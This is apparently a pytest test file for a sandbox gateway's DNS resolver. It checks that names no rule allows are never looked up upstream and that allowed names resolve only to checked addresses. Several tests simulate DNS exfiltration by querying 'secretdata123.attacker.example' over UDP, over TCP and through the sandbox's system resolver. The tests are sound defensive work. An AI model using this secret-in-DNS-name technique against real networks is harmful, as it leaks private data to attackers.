"""DNS mode: the sandbox's only resolver. Names no rule covers get NXDOMAIN without being looked
up anywhere (no DNS exfiltration through `<secret>.attacker.example`); allowed names get the
gateway's own checked addresses; HTTPS/SVCB are answered empty; other types are refused.

The gateway namespace's resolv.conf points at a trap resolver in the internet namespace (UDP and
TCP 53 recorders): a gateway that looked a name up with the system resolver would be caught there.
"""

from __future__ import annotations

import socket
import subprocess

import pytest

from .clients import PYTHON
from tests.support.topology import ALLOWED, TRAP_RESOLVER, dns_query

pytestmark = pytest.mark.netns

SECRET = "secretdata123.attacker.example"


def test_positive_control_the_trap_resolver_hears_the_gateway_namespace(topology):
    """A getaddrinfo in the gateway's namespace goes to the trap (which never answers)."""
    lookup = subprocess.run(["ip", "netns", "exec", topology.gw, "getent", "hosts", "control.invalid"],
                            capture_output=True, timeout=20)
    assert lookup.returncode != 0
    assert f"udp:{TRAP_RESOLVER}:53" in topology.touched()
    trap = topology.server(f"udp:{TRAP_RESOLVER}:53")
    assert any(b"control" in datagram for datagram in trap.datagrams)


@pytest.mark.parametrize("qtype", ["A", "AAAA", "TXT", "MX", "HTTPS", "ANY"])
def test_exfiltration_name_is_never_looked_up(topology, main, qtype):
    mark = main.audit_mark()
    reply = dns_query(topology, main.ns, main.sandbox.gateway_address, SECRET, qtype)
    assert reply is not None, "the gateway's DNS did not answer"
    assert reply.rcode in ("NXDOMAIN", "REFUSED") and reply.answers == [], reply
    assert topology.touched() == [], "the name reached a resolver"
    lines = main.audit_since(mark, event="dns")
    assert [(e["host"], e["decision"], e["dns_type"], e["rcode"]) for e in lines] == [
        (SECRET, "deny", qtype, reply.rcode)]
    assert lines[0]["sandbox"] is None and lines[0]["client"].startswith(main.sandbox.address + ":")


def test_exfiltration_over_tcp_dns(topology, main):
    reply = dns_query(topology, main.ns, main.sandbox.gateway_address, SECRET, "TXT", tcp=True)
    assert reply is not None and reply.rcode in ("NXDOMAIN", "REFUSED") and reply.answers == [], reply
    assert topology.touched() == []


def test_exfiltration_through_the_sandboxs_system_resolver(topology, main):
    getent = main.sandbox.exec(["getent", "ahosts", SECRET], timeout=20)
    assert getent.returncode != 0
    code = f"import socket\ntry:\n    socket.getaddrinfo({SECRET!r}, 443)\nexcept socket.gaierror as e:\n    print('gaierror', e.errno)"
    python = main.sandbox.exec([PYTHON, "-c", code], timeout=20)
    assert python.stdout.startswith("gaierror") and str(socket.EAI_NONAME) in python.stdout, python
    assert topology.touched() == []


def test_query_sent_straight_to_the_trap_is_answered_by_the_gateway(topology, main):
    """udp/53 and tcp/53 to the trap's own address are redirected to the gateway's DNS."""
    for tcp in (False, True):
        reply = dns_query(topology, main.ns, TRAP_RESOLVER, SECRET, "A", tcp=tcp)
        assert reply is not None and reply.rcode == "NXDOMAIN", (tcp, reply)
    assert topology.touched() == []


def test_allowed_name_a_record_is_the_checked_address(topology, main):
    mark = main.audit_mark()
    reply = dns_query(topology, main.ns, main.sandbox.gateway_address, "allowed.test", "A")
    assert reply is not None and (reply.rcode, reply.addresses) == ("NOERROR", [ALLOWED])
    line = main.audit_since(mark, event="dns")[0]
    assert (line["decision"], line["rule"], line["address"], line["rcode"]) == ("allow", "web", ALLOWED, "NOERROR")


@pytest.mark.parametrize("qtype, rcode", [("AAAA", "NOERROR"), ("HTTPS", "NOERROR"), ("SVCB", "NOERROR"),
                                          ("TXT", "REFUSED"), ("MX", "REFUSED")])
def test_allowed_name_other_types(topology, main, qtype, rcode):
    reply = dns_query(topology, main.ns, main.sandbox.gateway_address, "allowed.test", qtype)
    assert reply is not None and reply.rcode == rcode and reply.answers == [], reply
    assert topology.touched() == []


def test_dns_over_tcp_answers_allowed_names(topology, main):
    reply = dns_query(topology, main.ns, main.sandbox.gateway_address, "allowed.test", "A", tcp=True)
    assert reply is not None, "DNS over TCP (tcp/53 is redirected to the DNS port) got no answer"
    assert (reply.rcode, reply.addresses) == ("NOERROR", [ALLOWED])


def test_ip_address_as_a_name_is_not_answered(topology, main):
    reply = dns_query(topology, main.ns, main.sandbox.gateway_address, ALLOWED, "A")
    assert reply is not None and reply.rcode == "NXDOMAIN" and reply.answers == []
